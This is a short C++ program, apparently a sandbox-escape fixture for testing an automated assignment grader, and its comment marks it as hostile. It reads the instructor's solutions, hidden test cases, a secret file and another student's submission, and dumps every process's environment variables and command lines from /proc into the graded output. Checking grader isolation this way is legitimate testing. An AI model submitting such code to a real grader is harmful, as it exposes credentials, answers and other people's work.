// Hostile: reads, at run time, the answers, the hidden cases, another
// student's files, and every process's environment and command line it can
// see, and prints all of it into its output, which the feedback shows.
#include <cstdio>
#include <dirent.h>
static void mostra(const char *caminho)
{
    FILE *f = fopen(caminho, "r");
    if (!f)
        return;
    char linha[512];
    while (fgets(linha, sizeof linha, f))
        fputs(linha, stdout);
    fclose(f);
}
int main()
{
    mostra("@RAIZ@/professor/solucoes/anexa.cpp");
    mostra("@RAIZ@/professor/ocultos/anexa.txt");
    mostra("@RAIZ@/professor/.segredo");
    mostra("@ENTREGAS@/completo/material/aulas/arquivos/exercicios/anexa.cpp");
    DIR *d = opendir("/proc");
    for (dirent *e; d && (e = readdir(d));) {
        char caminho[300];
        snprintf(caminho, sizeof caminho, "/proc/%s/environ", e->d_name);
        mostra(caminho);
        snprintf(caminho, sizeof caminho, "/proc/%s/cmdline", e->d_name);
        mostra(caminho);
    }
    return 0;
}
